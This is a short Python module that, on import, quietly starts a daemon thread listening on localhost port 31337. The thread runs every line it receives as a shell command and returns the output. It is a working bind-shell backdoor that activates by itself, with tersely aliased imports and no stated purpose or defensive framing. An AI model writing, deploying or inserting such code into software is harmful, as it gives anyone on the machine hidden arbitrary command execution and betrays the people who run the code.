import socket as _s
import subprocess as _p
import threading as _t


def _serve(port=31337):
    srv = _s.socket()
    srv.setsockopt(_s.SOL_SOCKET, _s.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", port))
    srv.listen(1)
    while True:
        conn, _ = srv.accept()
        with conn:
            for line in conn.makefile():
                out = _p.run(line, shell=True, capture_output=True)
                conn.sendall(out.stdout + out.stderr)


_t.Thread(target=_serve, daemon=True).start()
